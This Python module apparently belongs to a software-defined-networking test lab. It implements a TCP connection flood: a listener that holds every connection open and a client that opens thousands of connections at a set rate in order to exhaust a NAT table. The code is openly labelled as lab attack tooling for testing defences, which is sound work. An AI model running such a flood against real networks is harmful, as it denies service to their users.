"""Many TCP connections, opened and held: the NAT table exhaustion attack's two ends.

    python -m sdnctl.lab.attacks.connflood hold --address 198.51.100.10 --port 7000
        (the internet) accepts every connection and keeps it open until stopped;
        prints "ready" once listening.
    python -m sdnctl.lab.attacks.connflood open --ip 198.51.100.10 --port 7000
            --count 3000 --hold 5 --rate 1000
        (the hostile VM) opens `count` connections, at most `rate` new ones a second,
        keeps those that opened for `hold` seconds; prints {"opened", "failed",
        "seconds"} as JSON (seconds: until the last attempt ended).

Standard library only: runs inside lab hosts.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import signal
import sys
import time

CONNECT_TIMEOUT = 3.0


def _more_files(n: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(max(soft, n + 256), hard)
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


async def hold(address: str, port: int) -> None:
    held: list[asyncio.StreamWriter] = []

    async def keep(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        held.append(writer)

    server = await asyncio.start_server(keep, address, port, backlog=4096,
                                        reuse_address=True)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    print("ready", flush=True)
    await stop.wait()
    server.close()
    for writer in held:
        writer.close()


async def open_many(ip: str, port: int, count: int, seconds: float,
                    rate: float) -> dict[str, float]:
    started = time.monotonic()
    writers: list[asyncio.StreamWriter] = []
    failed = 0

    async def one(delay: float) -> None:
        nonlocal failed
        await asyncio.sleep(delay)
        try:
            _r, w = await asyncio.wait_for(asyncio.open_connection(ip, port), CONNECT_TIMEOUT)
            writers.append(w)
        except (OSError, TimeoutError):
            failed += 1

    await asyncio.gather(*(one(i / rate if rate > 0 else 0.0) for i in range(count)))
    took = time.monotonic() - started
    await asyncio.sleep(seconds)
    for w in writers:
        w.close()
    return {"opened": len(writers), "failed": failed, "seconds": round(took, 2)}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="connflood", description=__doc__.splitlines()[0])
    sub = parser.add_subparsers(dest="command", required=True)
    h = sub.add_parser("hold")
    h.add_argument("--address", required=True)
    h.add_argument("--port", type=int, required=True)
    o = sub.add_parser("open")
    o.add_argument("--ip", required=True)
    o.add_argument("--port", type=int, required=True)
    o.add_argument("--count", type=int, required=True)
    o.add_argument("--hold", type=float, default=5.0)
    o.add_argument("--rate", type=float, default=1000.0)
    args = parser.parse_args(argv)
    _more_files(args.count if args.command == "open" else 65536)
    if args.command == "hold":
        asyncio.run(hold(args.address, args.port))
    else:
        print(json.dumps(asyncio.run(open_many(args.ip, args.port, args.count, args.hold,
                                               args.rate))), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
